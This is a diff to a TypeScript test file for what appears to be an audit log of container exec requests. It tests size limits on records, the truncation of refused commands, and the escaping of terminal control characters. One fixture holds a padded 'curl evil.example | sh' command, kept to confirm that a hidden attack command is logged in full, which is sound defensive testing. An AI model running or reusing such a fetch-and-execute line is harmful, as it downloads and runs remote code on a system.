@@ -19,7 +19,9 @@ test("property: a record has a bound, whatever is asked for; no two commands loo
   fc.assert(
     fc.property(text, text, fc.array(text, { minLength: 1, maxLength: 12 }), (name, container, command) => {
       const found = subjectFields({ ...EXEC, name, container, command });
-      expect(Buffer.byteLength(JSON.stringify(found))).toBeLessThan(9_000);
+      expect(Buffer.byteLength(JSON.stringify(found))).toBeLessThan(40_000);
+      const denied = askedFields({ ...EXEC, name, container, command }, { id: 1 });
+      expect(Buffer.byteLength(JSON.stringify(denied))).toBeLessThan(9_000);
       expect(found.commandWords).toBe(command.length);
       const other = subjectFields({ ...EXEC, name, container, command: [...command, "x"] });
       expect(other.commandSha256).not.toBe(found.commandSha256);
@@ -28,11 +30,41 @@ test("property: a record has a bound, whatever is asked for; no two commands loo
   );
 });
 
-test("of a long command its beginning is kept", () => {
+test("of a long command that is refused its beginning is kept", () => {
   const command = ["sh", "-c", "a".repeat(3_000), "b".repeat(3_000), "c"];
-  const [, , third, fourth, ...more] = subjectFields({ ...EXEC, command }).command as readonly string[];
+  const [, , third, fourth, ...more] = askedFields({ ...EXEC, command }, { id: 7 }).command as readonly string[];
   expect([third, more]).toEqual([command[2], []]);
   expect(fourth).toMatch(/^b{100,600}\[cut]$/);
+});
+
+test("property: any command that a query can hold stands in the record of its request to its last word", () => {
+  // Each of these takes more bytes in JSON than another of its length in a query.
+  const unit = fc.constantFrom("a", '"', "\\", "\u0001", "\n", "\u009b", "\u{f0000}", "ä", "€", "😀");
+  const words = fc.array(fc.string({ unit, maxLength: 2_000, size: "max" }), {
+    minLength: 1,
+    maxLength: 20,
+    size: "max",
+  });
+  fc.assert(
+    fc.property(words, (command) => {
+      const parts = command.map((each) => `command=${encodeURIComponent(each)}`);
+      while (parts.join("&").length > 16_384) parts.pop();
+      const kept = command.slice(0, parts.length);
+      expect(subjectFields({ ...EXEC, command: kept }).command).toHaveLength(kept.length);
+      expect(JSON.stringify(subjectFields({ ...EXEC, command: kept }))).not.toContain("[cut]");
+    }),
+    { numRuns: 50 },
+  );
+  const padded = ["sh", "-c", `: ${"a".repeat(12_000)}; curl evil.example | sh`];
+  expect(subjectFields({ ...EXEC, command: padded }).command).toEqual(padded);
+});
+
+test("what would move a terminal's cursor, hide text or turn it around is shown as its code", () => {
+  const found = subjectFields({ ...EXEC, container: "a\u009b2Kb", command: ["echo", "\u202Egnp\u009b1A\u200b\x7f"] });
+  expect(found).toMatchObject({
+    container: String.raw`a\u009b2Kb`,
+    command: ["echo", String.raw`\u202egnp\u009b1A\u200b\u007f`],
+  });
 });
 
 test("a refusal names the record of its request, or what was asked for", () => {
